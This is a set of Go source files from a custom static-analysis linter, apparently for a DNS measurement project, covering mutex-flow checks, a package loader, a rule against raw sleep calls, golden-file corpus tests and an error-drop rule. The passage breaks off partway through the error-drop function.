// lockState is the per-path possibility set for one lock, a bitmask over
// (held ∈ {unknown, held, free}) × (deferred release registered).
type lockBits uint8

const (
	lUnknown lockBits = 1 << iota // not locked by this function (caller may hold it)
	lHeld                         // locked on this path, no release registered
	lHeldDef                      // locked, defer Unlock registered
	lFree                         // locked then released on this path
	lFreeDef                      // released but defer Unlock still pending
)

// lockFlowState maps lock key -> possibility bits. Keys absent are in the
// entry state {lUnknown}.
type lockFlowState map[string]lockBits

func (s lockFlowState) clone() lockFlowState {
	out := make(lockFlowState, len(s))
	for k, v := range s {
		out[k] = v
	}
	return out
}

func (s lockFlowState) get(k string) lockBits {
	if v, ok := s[k]; ok {
		return v
	}
	return lUnknown
}

func lockJoin(a, b flowState) flowState {
	as, bs := a.(lockFlowState), b.(lockFlowState)
	out := as.clone()
	for k, v := range bs {
		out[k] = out.get(k) | v
	}
	// Keys only in a keep their bits; keys absent from b contribute
	// b's implicit lUnknown.
	for k := range as {
		if _, ok := bs[k]; !ok {
			out[k] |= lUnknown
		}
	}
	return out
}

func lockEqual(a, b flowState) bool {
	as, bs := a.(lockFlowState), b.(lockFlowState)
	if len(as) != len(bs) {
		return false
	}
	for k, v := range as {
		if bs[k] != v {
			return false
		}
	}
	return true
}

// checkLockFlow runs the dataflow over one function.
func checkLockFlow(p *Package, fs funcScope, emit func(token.Pos, string, string)) {
	// Fast path: no lock calls, no analysis.
	if !mentionsLockCall(p, fs.body) {
		return
	}
	g := BuildCFG(fs.body)
	reach := g.Reachable()

	// reported dedups per-site findings across solver iterations.
	type siteKey struct {
		pos  token.Pos
		kind string
	}
	reported := map[siteKey]bool{}
	report := func(pos token.Pos, kind, msg string) {
		k := siteKey{pos, kind}
		if reported[k] {
			return
		}
		reported[k] = true
		emit(pos, RuleLockCheck, msg)
	}

	transfer := func(b *Block, in flowState) flowState {
		st := in.(lockFlowState).clone()
		for _, n := range b.Nodes {
			applyLockNode(p, n, st, report)
		}
		return st
	}

	in := solveForward(flowProblem{
		cfg:      g,
		entry:    lockFlowState{},
		transfer: transfer,
		join:     lockJoin,
		equal:    lockEqual,
	})

	// Exit check: a lock that may still be held with no deferred release
	// escaped the function locked on some path.
	exitIn, ok := in[g.Exit]
	if !ok || !reach[g.Exit] {
		return
	}
	st := exitIn.(lockFlowState)
	keys := make([]string, 0, len(st))
	for k := range st {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		bits := st[k]
		if bits&lHeld != 0 {
			if pos, text := lockSiteFor(p, fs.body, k); pos != token.NoPos {
				report(pos, "leak", text+".Lock() is not released on every path out of the function; add an Unlock on each return path or defer the Unlock")
			}
		}
		if bits&lFreeDef != 0 {
			if pos, text := lockSiteFor(p, fs.body, k); pos != token.NoPos {
				report(pos, "doubledefer", text+" is Unlocked explicitly while a defer Unlock is registered; the deferred call double-releases at return")
			}
		}
	}
}

// applyLockNode folds one CFG node into the lock state, reporting
// path-local violations (double lock, double unlock) at their site.
func applyLockNode(p *Package, n ast.Node, st lockFlowState, report func(token.Pos, string, string)) {
	walkBlockNode(n, func(m ast.Node) bool {
		if _, ok := m.(*ast.FuncLit); ok {
			return false // closures are analyzed as their own functions
		}
		call, ok := m.(*ast.CallExpr)
		if !ok {
			return true
		}
		op, ok := classifyLockCall(p, call)
		if !ok {
			return true
		}
		if ds, isDefer := n.(*ast.DeferStmt); isDefer && ds.Call == call {
			op.defer_ = true
		}
		applyLockOp(op, st, report)
		return true
	})
}

func applyLockOp(op lockOp, st lockFlowState, report func(token.Pos, string, string)) {
	bits := st.get(op.key)
	switch {
	case op.lock && op.defer_:
		// defer mu.Lock() is almost certainly a typo for defer Unlock,
		// but it is not this rule's business; treat as unknown.
		st[op.key] = lUnknown
	case op.lock && !op.read:
		if bits&(lHeld|lHeldDef) != 0 {
			report(op.pos, "double", op.text+".Lock() on a path that already holds "+op.text+"; a non-reentrant mutex self-deadlocks here")
		}
		if bits&(lHeldDef|lFreeDef) != 0 {
			st[op.key] = lHeldDef // a pending defer Unlock covers the re-acquired lock
		} else {
			st[op.key] = lHeld
		}
	case op.lock && op.read:
		// RLock is shared; double-RLock on one goroutine is legal (if
		// inadvisable under writer pressure). Track hold for leak checks.
		if bits&(lHeldDef|lFreeDef) != 0 {
			st[op.key] = lHeldDef
		} else {
			st[op.key] = lHeld
		}
	case !op.lock && op.defer_:
		// defer mu.Unlock(): registers a release that runs at exit.
		next := lockBits(0)
		for _, b := range []lockBits{lUnknown, lHeld, lHeldDef, lFree, lFreeDef} {
			if bits&b == 0 {
				continue
			}
			switch b {
			case lHeld:
				next |= lHeldDef
			case lHeldDef, lFreeDef:
				report(op.pos, "redefer", "a second defer "+op.text+".Unlock() is already registered on this path; the extra deferred call double-releases at return")
				next |= b
			case lUnknown:
				// Deferring a release for a lock the caller holds — the
				// with-lock-held helper pattern. Model as deferred over
				// an unknown hold.
				next |= lHeldDef
			case lFree:
				next |= lFreeDef
			}
		}
		st[op.key] = next
	default:
		// Plain Unlock/RUnlock.
		if bits&lFree != 0 && !op.read {
			report(op.pos, "doubleunlock", op.text+".Unlock() on a path that already released it; unlocking an unlocked mutex is a fatal runtime error")
		}
		next := lockBits(0)
		for _, b := range []lockBits{lUnknown, lHeld, lHeldDef, lFree, lFreeDef} {
			if bits&b == 0 {
				continue
			}
			switch b {
			case lHeldDef:
				next |= lFreeDef
			default:
				next |= lFree
			}
		}
		st[op.key] = next
	}
}

// classifyLockCall recognizes (*sync.Mutex).Lock/Unlock and the RWMutex
// variants, including promoted methods through embedding, and returns the
// canonical lock key of the receiver path.
func classifyLockCall(p *Package, call *ast.CallExpr) (lockOp, bool) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return lockOp{}, false
	}
	name := sel.Sel.Name
	var read, lock bool
	switch name {
	case "Lock":
		lock = true
	case "Unlock":
	case "RLock":
		read, lock = true, true
	case "RUnlock":
		read = true
	default:
		return lockOp{}, false
	}
	obj := p.Info.Uses[sel.Sel]
	fn, ok := obj.(*types.Func)
	if !ok || fn.Pkg() == nil || fn.Pkg().Path() != "sync" {
		return lockOp{}, false
	}
	key, ok := exprKey(p, sel.X)
	if !ok {
		return lockOp{}, false
	}
	return lockOp{key: key, text: exprText(sel.X), read: read, lock: lock, pos: call.Pos()}, true
}

// mentionsLockCall is the cheap pre-filter.
func mentionsLockCall(p *Package, body *ast.BlockStmt) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if found {
			return false
		}
		if call, ok := n.(*ast.CallExpr); ok {
			if _, ok := classifyLockCall(p, call); ok {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// lockSiteFor finds the first Lock/RLock call on key in body, for
// positioning exit findings at the acquisition rather than the brace.
func lockSiteFor(p *Package, body *ast.BlockStmt, key string) (token.Pos, string) {
	pos := token.NoPos
	text := ""
	ast.Inspect(body, func(n ast.Node) bool {
		if pos != token.NoPos {
			return false
		}
		if call, ok := n.(*ast.CallExpr); ok {
			if op, ok := classifyLockCall(p, call); ok && op.key == key && op.lock {
				pos, text = op.pos, op.text
				return false
			}
		}
		return true
	})
	return pos, text
}

// ---- by-value mutex travel ----

// checkLockCopies flags sync.Mutex/sync.RWMutex values (or values of
// types containing one) traveling by value.
func checkLockCopies(p *Package, emit func(token.Pos, string, string)) {
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.FuncDecl:
				checkFieldListCopies(p, n.Recv, "receiver", emit)
				checkFieldListCopies(p, n.Type.Params, "parameter", emit)
				checkFieldListCopies(p, n.Type.Results, "result", emit)
			case *ast.FuncLit:
				checkFieldListCopies(p, n.Type.Params, "parameter", emit)
				checkFieldListCopies(p, n.Type.Results, "result", emit)
			case *ast.AssignStmt:
				for i := range n.Lhs {
					if i >= len(n.Rhs) {
						break
					}
					if copiesLockValue(p, n.Rhs[i]) {
						emit(n.Rhs[i].Pos(), RuleLockCheck,
							"assignment copies a value containing a "+lockTypeName(p, n.Rhs[i])+"; the copy forks the lock state — use a pointer")
					}
				}
			case *ast.RangeStmt:
				if n.Value != nil {
					// A := value variable is a definition, so its type
					// lives on the object, not in Types.
					t := rangeValueType(p, n.Value)
					if t != nil && containsLock(t) {
						emit(n.Value.Pos(), RuleLockCheck,
							"range copies each element's "+lockName(t)+" by value; range over indices and take pointers instead")
					}
				}
			case *ast.CallExpr:
				checkCallArgCopies(p, n, emit)
			}
			return true
		})
	}
}

// rangeValueType resolves the type of a range statement's value
// expression, whether it is a fresh definition or a pre-declared target.
func rangeValueType(p *Package, v ast.Expr) types.Type {
	if tv, ok := p.Info.Types[v]; ok {
		return tv.Type
	}
	if id, ok := v.(*ast.Ident); ok {
		if obj := p.Info.Defs[id]; obj != nil {
			return obj.Type()
		}
		if obj := p.Info.Uses[id]; obj != nil {
			return obj.Type()
		}
	}
	return nil
}

func checkFieldListCopies(p *Package, fl *ast.FieldList, what string, emit func(token.Pos, string, string)) {
	if fl == nil {
		return
	}
	for _, field := range fl.List {
		tv, ok := p.Info.Types[field.Type]
		if !ok {
			continue
		}
		if _, isPtr := tv.Type.(*types.Pointer); isPtr {
			continue
		}
		if containsLock(tv.Type) {
			emit(field.Pos(), RuleLockCheck,
				"by-value "+what+" of a type containing "+lockName(tv.Type)+" copies the lock; use a pointer")
		}
	}
}

// copiesLockValue reports whether e copies an existing lock-bearing value
// — an identifier, selector, dereference, or index read of such a type.
// Composite literals and new() are initializations of a fresh (zero,
// unlocked) value and are fine.
func copiesLockValue(p *Package, e ast.Expr) bool {
	switch e.(type) {
	case *ast.Ident, *ast.SelectorExpr, *ast.StarExpr, *ast.IndexExpr:
	default:
		return false
	}
	tv, ok := p.Info.Types[e]
	if ok && tv.IsType() {
		// A type operand, not a value: new(T) and T(x) where T is a
		// generic instantiation parse as IndexExpr.
		return false
	}
	if !ok {
		return false
	}
	if _, isPtr := tv.Type.(*types.Pointer); isPtr {
		return false
	}
	return containsLock(tv.Type)
}

func checkCallArgCopies(p *Package, call *ast.CallExpr, emit func(token.Pos, string, string)) {
	// Conversions and builtins are not calls that copy into parameters.
	if tv, ok := p.Info.Types[call.Fun]; ok && tv.IsType() {
		return
	}
	for _, arg := range call.Args {
		if copiesLockValue(p, arg) {
			emit(arg.Pos(), RuleLockCheck,
				"call passes a value containing a "+lockTypeName(p, arg)+" by value; the callee operates on a copy of the lock — pass a pointer")
		}
	}
}

// containsLock reports whether t (not a pointer) is or transitively
// contains sync.Mutex or sync.RWMutex by value.
func containsLock(t types.Type) bool {
	return containsLockSeen(t, map[types.Type]bool{})
}

func containsLockSeen(t types.Type, seen map[types.Type]bool) bool {
	if seen[t] {
		return false
	}
	seen[t] = true
	if namedIn(t, "sync", "Mutex") || namedIn(t, "sync", "RWMutex") {
		// A *pointer* to a mutex is fine; namedIn unwraps pointers, so
		// re-check here.
		if _, isPtr := t.(*types.Pointer); isPtr {
			return false
		}
		return true
	}
	switch u := t.Underlying().(type) {
	case *types.Struct:
		for i := 0; i < u.NumFields(); i++ {
			ft := u.Field(i).Type()
			if _, isPtr := ft.(*types.Pointer); isPtr {
				continue
			}
			if containsLockSeen(ft, seen) {
				return true
			}
		}
	case *types.Array:
		return containsLockSeen(u.Elem(), seen)
	}
	return false
}

// lockName names the mutex kind inside t for messages.
func lockName(t types.Type) string {
	name := "sync.Mutex"
	if strings.Contains(typeString(t), "RWMutex") {
		name = "sync.RWMutex"
	}
	return name
}

func lockTypeName(p *Package, e ast.Expr) string {
	if tv, ok := p.Info.Types[e]; ok {
		return lockName(tv.Type)
	}
	return "sync.Mutex"
}

func typeString(t types.Type) string { return fmt.Sprintf("%v", t) }
