package lint

import (
	"fmt"
	"go/ast"
	"go/build/constraint"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
)

// Package is one type-checked package ready for analysis.
type Package struct {
	// Path is the package's import path; the rules key off it.
	Path  string
	Fset  *token.FileSet
	Files []*ast.File
	Info  *types.Info
	Types *types.Package
}

// Loader parses and type-checks packages of one module, resolving
// module-internal imports from source and standard-library imports
// through the stdlib source importer. No build system, no export data,
// no external dependencies.
type Loader struct {
	ModRoot string
	ModPath string
	Fset    *token.FileSet

	std  types.Importer
	pkgs map[string]*Package
	// loading guards against import cycles, which would otherwise
	// recurse forever.
	loading map[string]bool
}

// NewLoader builds a loader for the module rooted at modRoot (the
// directory holding go.mod).
func NewLoader(modRoot string) (*Loader, error) {
	modPath, err := modulePath(filepath.Join(modRoot, "go.mod"))
	if err != nil {
		return nil, err
	}
	fset := token.NewFileSet()
	return &Loader{
		ModRoot: modRoot,
		ModPath: modPath,
		Fset:    fset,
		std:     importer.ForCompiler(fset, "source", nil),
		pkgs:    map[string]*Package{},
		loading: map[string]bool{},
	}, nil
}

// modulePath extracts the module path from a go.mod file.
func modulePath(gomod string) (string, error) {
	data, err := os.ReadFile(gomod)
	if err != nil {
		return "", err
	}
	for _, line := range strings.Split(string(data), "\n") {
		if p, ok := strings.CutPrefix(strings.TrimSpace(line), "module "); ok {
			return strings.TrimSpace(p), nil
		}
	}
	return "", fmt.Errorf("lint: no module line in %s", gomod)
}

// FindModuleRoot walks up from dir to the nearest go.mod.
func FindModuleRoot(dir string) (string, error) {
	dir, err := filepath.Abs(dir)
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("lint: no go.mod above %s", dir)
		}
		dir = parent
	}
}

// LoadDir parses and type-checks the package in one directory. Test
// files are excluded: the contract rules police production code, and
// tests legitimately use seeded randomness and wall-clock deadlines.
func (l *Loader) LoadDir(dir string) (*Package, error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return nil, err
	}
	rel, err := filepath.Rel(l.ModRoot, abs)
	if err != nil || strings.HasPrefix(rel, "..") {
		return nil, fmt.Errorf("lint: %s is outside module %s", dir, l.ModRoot)
	}
	path := l.ModPath
	if rel != "." {
		path = l.ModPath + "/" + filepath.ToSlash(rel)
	}
	return l.load(path, abs)
}

// LoadVirtual type-checks a set of parsed files as though they formed
// the package at importPath. The lint tests use it to run rule corpora
// under the package identities the rules key off.
func (l *Loader) LoadVirtual(importPath string, files []*ast.File) (*Package, error) {
	return l.check(importPath, files)
}

// Import implements types.Importer: module-internal packages are
// resolved from source under ModRoot, everything else goes to the
// standard-library source importer.
func (l *Loader) Import(path string) (*types.Package, error) {
	if path == l.ModPath || strings.HasPrefix(path, l.ModPath+"/") {
		dir := l.ModRoot
		if path != l.ModPath {
			dir = filepath.Join(l.ModRoot, filepath.FromSlash(strings.TrimPrefix(path, l.ModPath+"/")))
		}
		p, err := l.load(path, dir)
		if err != nil {
			return nil, err
		}
		return p.Types, nil
	}
	return l.std.Import(path)
}

func (l *Loader) load(path, dir string) (*Package, error) {
	if p, ok := l.pkgs[path]; ok {
		return p, nil
	}
	if l.loading[path] {
		return nil, fmt.Errorf("lint: import cycle through %s", path)
	}
	l.loading[path] = true
	defer delete(l.loading, path)

	files, err := l.parseDir(dir)
	if err != nil {
		return nil, err
	}
	p, err := l.check(path, files)
	if err != nil {
		return nil, err
	}
	l.pkgs[path] = p
	return p, nil
}

// parseDir parses every non-test .go file of one directory that selects
// the loader's host platform. Platform-specific files (GOOS/GOARCH
// filename suffixes, //go:build lines) would otherwise type-check as
// duplicate declarations — e.g. per-arch syscall-number constants.
func (l *Loader) parseDir(dir string) ([]*ast.File, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var names []string
	for _, e := range entries {
		n := e.Name()
		if e.IsDir() || !strings.HasSuffix(n, ".go") ||
			strings.HasSuffix(n, "_test.go") || strings.HasPrefix(n, ".") {
			continue
		}
		if !suffixMatchesHost(n) {
			continue
		}
		names = append(names, n)
	}
	sort.Strings(names)
	if len(names) == 0 {
		return nil, fmt.Errorf("lint: no Go files in %s", dir)
	}
	var files []*ast.File
	for _, n := range names {
		src, err := os.ReadFile(filepath.Join(dir, n))
		if err != nil {
			return nil, err
		}
		if !buildLineMatchesHost(src) {
			continue
		}
		f, err := parser.ParseFile(l.Fset, filepath.Join(dir, n), src, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			return nil, err
		}
		files = append(files, f)
	}
	if len(files) == 0 {
		return nil, fmt.Errorf("lint: no Go files in %s select %s/%s", dir, runtime.GOOS, runtime.GOARCH)
	}
	return files, nil
}

// knownOS and knownArch are the names that activate filename-suffix
// build constraints (a trailing _name only constrains when the name is
// a recognized GOOS or GOARCH — go/build's rule).
var knownOS = map[string]bool{
	"aix": true, "android": true, "darwin": true, "dragonfly": true,
	"freebsd": true, "illumos": true, "ios": true, "js": true,
	"linux": true, "netbsd": true, "openbsd": true, "plan9": true,
	"solaris": true, "wasip1": true, "windows": true,
}

var knownArch = map[string]bool{
	"386": true, "amd64": true, "arm": true, "arm64": true,
	"loong64": true, "mips": true, "mips64": true, "mips64le": true,
	"mipsle": true, "ppc64": true, "ppc64le": true, "riscv64": true,
	"s390x": true, "sparc64": true, "wasm": true,
}

// unixOS lists the GOOS values the "unix" build tag covers.
var unixOS = map[string]bool{
	"aix": true, "android": true, "darwin": true, "dragonfly": true,
	"freebsd": true, "illumos": true, "ios": true, "linux": true,
	"netbsd": true, "openbsd": true, "solaris": true,
}

// suffixMatchesHost applies the *_GOOS.go / *_GOARCH.go /
// *_GOOS_GOARCH.go filename rules against the host platform.
func suffixMatchesHost(name string) bool {
	parts := strings.Split(strings.TrimSuffix(name, ".go"), "_")
	n := len(parts)
	if n >= 2 && knownArch[parts[n-1]] {
		if parts[n-1] != runtime.GOARCH {
			return false
		}
		if n >= 3 && knownOS[parts[n-2]] {
			return parts[n-2] == runtime.GOOS
		}
		return true
	}
	if n >= 2 && knownOS[parts[n-1]] {
		return parts[n-1] == runtime.GOOS
	}
	return true
}

// buildLineMatchesHost evaluates the file's //go:build line (if any)
// against the host platform. Tags beyond GOOS/GOARCH/unix — compiler
// names, go1.x release tags — are treated as satisfied; an unparsable
// expression never excludes a file (the compiler will complain, not us).
func buildLineMatchesHost(src []byte) bool {
	for _, line := range strings.Split(string(src), "\n") {
		trimmed := strings.TrimSpace(line)
		if strings.HasPrefix(trimmed, "package ") {
			break
		}
		if !constraint.IsGoBuild(trimmed) {
			continue
		}
		expr, err := constraint.Parse(trimmed)
		if err != nil {
			return true
		}
		return expr.Eval(func(tag string) bool {
			switch {
			case tag == runtime.GOOS || tag == runtime.GOARCH:
				return true
			case tag == "unix":
				return unixOS[runtime.GOOS]
			case tag == "gc" || strings.HasPrefix(tag, "go1"):
				return true
			}
			return false
		})
	}
	return true
}

// check type-checks one package's files.
func (l *Loader) check(path string, files []*ast.File) (*Package, error) {
	var typeErrs []error
	conf := types.Config{
		Importer: l,
		Error:    func(err error) { typeErrs = append(typeErrs, err) },
	}
	info := &types.Info{
		Types:      map[ast.Expr]types.TypeAndValue{},
		Defs:       map[*ast.Ident]types.Object{},
		Uses:       map[*ast.Ident]types.Object{},
		Selections: map[*ast.SelectorExpr]*types.Selection{},
	}
	tpkg, err := conf.Check(path, l.Fset, files, info)
	if len(typeErrs) > 0 {
		return nil, fmt.Errorf("lint: type-checking %s: %w", path, typeErrs[0])
	}
	if err != nil {
		return nil, fmt.Errorf("lint: type-checking %s: %w", path, err)
	}
	return &Package{Path: path, Fset: l.Fset, Files: files, Info: info, Types: tpkg}, nil
}

// PackageDirs lists every directory under root that holds a Go package,
// skipping testdata, hidden directories, and the zones corpus — the
// expansion of the `./...` pattern.
func PackageDirs(root string) ([]string, error) {
	var dirs []string
	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			return nil
		}
		name := d.Name()
		if path != root && (strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_") ||
			name == "testdata" || name == "zones") {
			return filepath.SkipDir
		}
		entries, err := os.ReadDir(path)
		if err != nil {
			return err
		}
		for _, e := range entries {
			n := e.Name()
			if !e.IsDir() && strings.HasSuffix(n, ".go") && !strings.HasSuffix(n, "_test.go") {
				dirs = append(dirs, path)
				break
			}
		}
		return nil
	})
	return dirs, err
}
