package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// checkSleepCall forbids raw timer primitives — time.Sleep, time.After,
// time.Tick, time.NewTimer, time.NewTicker — everywhere in the module.
// The scanner's Clock interface is the single seam through which delay
// enters the measurement engine; a raw sleep bypasses it, which breaks
// fake-clock tests (they hang on real time), stalls cancellation (a
// sleeping goroutine cannot observe ctx), and hides pacing from the
// deterministic backoff schedule. Code that genuinely needs a wall-clock
// delay injects a Clock or, for the handful of Clock implementations
// themselves, carries an annotated `//lint:allow sleepcall` exemption.
// Tests are exempt by construction: the loader skips _test.go files.
func checkSleepCall(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	for _, f := range p.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			id, ok := sel.X.(*ast.Ident)
			if !ok {
				return true
			}
			pn, ok := p.Info.Uses[id].(*types.PkgName)
			if !ok || pn.Imported().Path() != "time" {
				return true
			}
			switch name := sel.Sel.Name; name {
			case "Sleep", "After", "Tick", "NewTimer", "NewTicker":
				emit(sel.Pos(), RuleSleepCall,
					"time."+name+" bypasses the Clock seam (unfakeable in tests, invisible to cancellation); sleep through an injected scanner.Clock instead")
			}
			return true
		})
	}
}
