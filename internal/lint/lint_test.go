package lint

import (
	"flag"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the golden expected-findings files")

// corpusTests pins each rule's testdata directory to the package
// identity it is analyzed under. determinism and maporder only fire in
// their configured package sets, so the corpus must impersonate a
// member; gohygiene and errdrop apply everywhere, so a neutral path
// works.
var corpusTests = []struct {
	rule       string
	importPath string
	// rules optionally narrows the analysis via Config.Rules, so a
	// corpus whose patterns also trip sibling rules (taintflow corpora
	// are full of maporder shapes) stays a single-rule golden. nil runs
	// everything, preserving the original corpora byte for byte.
	rules []string
}{
	{rule: RuleDeterminism, importPath: "goingwild/internal/wildnet"},
	{rule: RuleMapOrder, importPath: "goingwild/internal/analysis"},
	{rule: RuleGoHygiene, importPath: "goingwild/internal/fetch"},
	{rule: RuleErrDrop, importPath: "goingwild/internal/fetch"},
	{rule: RuleCtxHygiene, importPath: "goingwild/internal/fetch"},
	{rule: RuleSleepCall, importPath: "goingwild/internal/fetch"},
	{rule: RuleLockCheck, importPath: "goingwild/internal/fetch",
		rules: []string{RuleLockCheck, RuleAllow}},
	{rule: RuleAtomicHygiene, importPath: "goingwild/internal/fetch",
		rules: []string{RuleAtomicHygiene, RuleAllow}},
	{rule: RuleHotPath, importPath: "goingwild/internal/fetch",
		rules: []string{RuleHotPath, RuleAllow}},
	{rule: RuleTaintFlow, importPath: "goingwild/internal/analysis",
		rules: []string{RuleTaintFlow, RuleAllow}},
	{rule: RuleFsyncCheck, importPath: "goingwild/internal/checkpoint",
		rules: []string{RuleFsyncCheck, RuleAllow}},
}

// loadCorpus type-checks testdata/<rule> as though it were the package
// at importPath.
func loadCorpus(t *testing.T, rule, importPath string) *Package {
	t.Helper()
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	loader, err := NewLoader(root)
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join("testdata", rule)
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var files []*ast.File
	var names []string
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".go") {
			names = append(names, e.Name())
		}
	}
	sort.Strings(names)
	for _, n := range names {
		f, err := parser.ParseFile(loader.Fset, filepath.Join(dir, n), nil,
			parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, f)
	}
	pkg, err := loader.LoadVirtual(importPath, files)
	if err != nil {
		t.Fatalf("type-checking corpus %s: %v", rule, err)
	}
	return pkg
}

// render flattens findings to golden-file lines, with paths reduced to
// the base name so the files are location-independent.
func render(findings []Finding) string {
	var b strings.Builder
	for _, f := range findings {
		f.Pos.Filename = filepath.Base(f.Pos.Filename)
		b.WriteString(f.String())
		b.WriteByte('\n')
	}
	return b.String()
}

// TestCorpusGolden runs every analyzer over its corpus and compares the
// surviving findings against the checked-in golden file. Each corpus
// contains true positives, true negatives, and //lint:allow
// suppressions, so a diff means rule behavior changed.
func TestCorpusGolden(t *testing.T) {
	for _, tc := range corpusTests {
		t.Run(tc.rule, func(t *testing.T) {
			pkg := loadCorpus(t, tc.rule, tc.importPath)
			cfg := DefaultConfig("goingwild")
			cfg.Rules = tc.rules
			got := render(cfg.Analyze(pkg))

			golden := filepath.Join("testdata", tc.rule+".golden")
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("missing golden file (run with -update): %v", err)
			}
			if got != string(want) {
				t.Errorf("findings diverge from %s\n--- got ---\n%s--- want ---\n%s", golden, got, want)
			}
			// Sanity: the corpus must demonstrate the rule actually fires.
			if !strings.Contains(got, "["+tc.rule+"]") {
				t.Errorf("corpus produced no %s findings", tc.rule)
			}
		})
	}
}

// TestScopedRulesRespectPackageSets re-analyzes the determinism corpus
// under a package outside the deterministic set: every determinism
// finding must vanish (only the malformed-allow finding, which is
// path-independent by design, may remain).
func TestScopedRulesRespectPackageSets(t *testing.T) {
	pkg := loadCorpus(t, RuleDeterminism, "goingwild/internal/fetch")
	cfg := DefaultConfig("goingwild")
	for _, f := range cfg.Analyze(pkg) {
		if f.Rule == RuleDeterminism {
			t.Errorf("determinism fired outside its package set: %s", f)
		}
	}
}

// TestCtxHygieneExemptsCmd re-analyzes the ctxhygiene corpus under a
// cmd/ import path: the whole rule must go quiet, since package main is
// where uncancellable roots belong.
func TestCtxHygieneExemptsCmd(t *testing.T) {
	pkg := loadCorpus(t, RuleCtxHygiene, "goingwild/cmd/fake")
	cfg := DefaultConfig("goingwild")
	for _, f := range cfg.Analyze(pkg) {
		if f.Rule == RuleCtxHygiene {
			t.Errorf("ctxhygiene fired under cmd/: %s", f)
		}
	}
}

// TestFindingString pins the canonical output format.
func TestFindingString(t *testing.T) {
	f := Finding{
		Pos:  token.Position{Filename: "x.go", Line: 7},
		Rule: RuleErrDrop,
		Msg:  "boom",
	}
	if got, want := f.String(), "x.go:7: [errdrop] boom"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}

// TestRepoIsClean is the self-check: the analyzers must exit clean over
// the repository itself, the same invariant `make lint` and CI enforce.
func TestRepoIsClean(t *testing.T) {
	if testing.Short() {
		t.Skip("whole-module type check is slow; covered by make lint")
	}
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	loader, err := NewLoader(root)
	if err != nil {
		t.Fatal(err)
	}
	dirs, err := PackageDirs(root)
	if err != nil {
		t.Fatal(err)
	}
	if len(dirs) < 10 {
		t.Fatalf("PackageDirs found only %d packages; expansion is broken", len(dirs))
	}
	cfg := DefaultConfig(loader.ModPath)
	for _, dir := range dirs {
		pkg, err := loader.LoadDir(dir)
		if err != nil {
			t.Fatalf("loading %s: %v", dir, err)
		}
		for _, f := range cfg.Analyze(pkg) {
			t.Errorf("repo not lint-clean: %s", f)
		}
	}
}
