package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// checkErrDrop flags call sites that discard the error return of the
// wire-format and zone-file APIs: dnswire pack/unpack and zonefile
// parse/serialize. Those errors are the only signal that a packet or
// zone was malformed; dropping one silently miscounts responses, which
// is precisely the failure a measurement pipeline cannot tolerate.
//
// Beyond the watched packages, the rule also tracks the transport seam:
// Transport.Send (declared in wildnet; scanner.Transport is an alias)
// returns the only evidence that a probe never left the machine. The
// scan hot paths deliberately treat send failures as modeled packet
// loss, but that policy must be legible — every dropped Send error
// needs an explicit //lint:allow errdrop annotation stating so, or the
// rule fires.
//
// A call drops the error when it stands alone as a statement, is
// spawned via go/defer, or assigns the error result to the blank
// identifier.
func checkErrDrop(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	watched := map[string]bool{
		cfg.ModulePath + "/internal/dnswire":  true,
		cfg.ModulePath + "/internal/zonefile": true,
	}
	transportPkg := cfg.ModulePath + "/internal/wildnet"
	for _, f := range p.Files {
		inspectStack(f, func(n ast.Node, stack []ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			fn := calleeFunc(p, call)
			if fn == nil || fn.Pkg() == nil {
				return true
			}
			if pkg := fn.Pkg().Path(); !watched[pkg] &&
				!(pkg == transportPkg && fn.Name() == "Send") {
				return true
			}
			errIdx := errResultIndex(fn)
			if errIdx < 0 {
				return true
			}
			name := fn.Pkg().Name() + "." + fn.Name()
			switch parent := stack[len(stack)-2].(type) {
			case *ast.ExprStmt:
				emit(call.Pos(), RuleErrDrop,
					name+" returns an error that is discarded; handle it or assign it")
			case *ast.GoStmt, *ast.DeferStmt:
				emit(call.Pos(), RuleErrDrop,
					name+" returns an error that is discarded by go/defer; wrap it in a closure that checks the error")
			case *ast.AssignStmt:
				// Only the direct call form `a, b := f()` maps results to
				// LHS positions; f() inside a larger expression has its
				// error consumed by that expression.
				if len(parent.Rhs) == 1 && parent.Rhs[0] == ast.Expr(call) &&
					len(parent.Lhs) > errIdx {
					if id, ok := parent.Lhs[errIdx].(*ast.Ident); ok && id.Name == "_" {
						emit(call.Pos(), RuleErrDrop,
							name+"'s error result is assigned to _; handle it (a malformed message must not count as a response)")
